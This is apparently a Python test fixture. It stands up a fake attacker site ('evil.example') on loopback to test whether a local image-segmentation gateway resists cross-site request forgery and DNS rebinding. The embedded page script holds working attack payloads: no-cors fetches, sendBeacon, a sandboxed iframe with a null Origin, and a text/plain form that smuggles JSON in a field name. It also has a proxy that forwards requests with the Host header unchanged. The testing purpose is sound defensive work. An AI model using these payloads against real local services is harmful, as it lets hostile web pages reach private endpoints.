"""A stranger's web server on loopback. It forwards requests for other paths to the gateway with the Host header unchanged, as if
the stranger's name now resolved to the gateway's address (DNS rebinding)."""

from __future__ import annotations

import http.client
import json
import queue
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import urlsplit

# Each attempt records what the page sees: a status, "opaque", or the browser's refusal.
_SCRIPT = """
const image = IMAGE, gateway = GATEWAY, body = JSON.stringify({image});
const path = "/semantic-segmentation", target = location.hostname == "evil.example" ? gateway : "";
const seen = {};
async function attempt(name, url, options) {
  try {
    const response = await fetch(target + url, options);
    seen[name] = response.type == "opaque" ? "opaque" : response.status;
  } catch (error) { seen[name] = String(error); }
}
const bytes = Uint8Array.from(atob(image), character => character.charCodeAt(0));
const file = new FormData();
file.append("image", new Blob([bytes]), "image.png");
async function everything() {
  await attempt("text", path, {method: "POST", body, headers: {"Content-Type": "text/plain"}});
  await attempt("JSON", path, {method: "POST", body, headers: {"Content-Type": "application/json"}});
  await attempt("image", path, {method: "POST", body: bytes, headers: {"Content-Type": "image/png"}});
  await attempt("no-cors", path, {method: "POST", body, mode: "no-cors"});
  await attempt("no-cors, no referrer", path, {method: "POST", body, mode: "no-cors", referrerPolicy: "no-referrer"});
  await attempt("no-cors form", path, {method: "POST", body: file, mode: "no-cors"});
  await attempt("batch", path + "/batch", {method: "POST", body: JSON.stringify({images: [image]}), mode: "no-cors"});
  await attempt("models", "/models", {});
  navigator.sendBeacon(target + path, body);
}
function submit() {  // {"image": "...", "logId": "="}, sent by a plain form
  const form = document.createElement("form"), field = document.createElement("input"), frame = document.createElement("iframe");
  frame.name = form.target = "answer";
  Object.assign(form, {method: "post", enctype: "text/plain", action: target + path});
  field.name = `{"image": "${image}", "logId": "`;
  field.value = '"}';
  form.append(field);
  document.body.append(frame, form);
  return new Promise(done => { frame.onload = done; form.submit(); });
}
everything().then(submit).then(() => fetch("/report", {method: "POST", body: JSON.stringify(seen)}));
"""
# An opaque origin: `Origin: null`.
_SANDBOX = """<iframe sandbox="allow-scripts" srcdoc='<script>
fetch(GATEWAY + "/semantic-segmentation", {method: "POST", body: JSON.stringify({image: IMAGE}), mode: "no-cors"});
</script>'></iframe>"""


class Stranger(ThreadingHTTPServer):
    """`reports` holds the host name of each page and the results of its attempts."""

    def __init__(self, gateway: str, image: str) -> None:
        super().__init__(("127.0.0.1", 0), _Handler)
        self.gateway = gateway
        self.reports: queue.Queue[tuple[str, dict[str, int | str]]] = queue.Queue()
        self._texts = {"IMAGE": json.dumps(image), "GATEWAY": json.dumps(gateway)}

    def page(self) -> bytes:
        others = "".join(
            f'<iframe src="http://{host}:{self.server_port}/page"></iframe>' for host in ("rebound.example", "localhost")
        )
        parts = f"<script>if (location.hostname == 'evil.example') document.write(`{others}`)</script>"
        text = f"<!doctype html><body>{parts}{_SANDBOX}<script>{_SCRIPT}</script></body>"
        for name, value in self._texts.items():
            text = text.replace(name, value)
        return text.encode()


class _Handler(BaseHTTPRequestHandler):
    server: Stranger

    def log_message(self, *_: object) -> None:
        pass

    def do_GET(self) -> None:
        if self.path == "/page":
            self._answer(200, "text/html", self.server.page())
        else:
            self._hand_on()

    def do_POST(self) -> None:
        if self.path == "/report":
            body = self.rfile.read(int(self.headers["Content-Length"]))
            self.server.reports.put((self.headers["Host"].partition(":")[0], json.loads(body)))
            self._answer(200, "text/plain", b"")
        else:
            self._hand_on()

    def _hand_on(self) -> None:
        gateway = http.client.HTTPConnection(urlsplit(self.server.gateway).netloc, timeout=30)
        body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
        gateway.request(self.command, self.path, body, dict(self.headers))
        answer = gateway.getresponse()
        self._answer(answer.status, answer.headers["Content-Type"], answer.read())
        gateway.close()

    def _answer(self, status: int, kind: str, body: bytes) -> None:
        self.send_response(status)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)


@contextmanager
def stranger(gateway: str, image: str) -> Iterator[Stranger]:
    """Runs the server until the block ends."""
    with Stranger(gateway, image) as server:
        thread = threading.Thread(target=server.serve_forever, args=[0.05], daemon=True)
        thread.start()
        try:
            yield server
        finally:
            server.shutdown()
            thread.join()
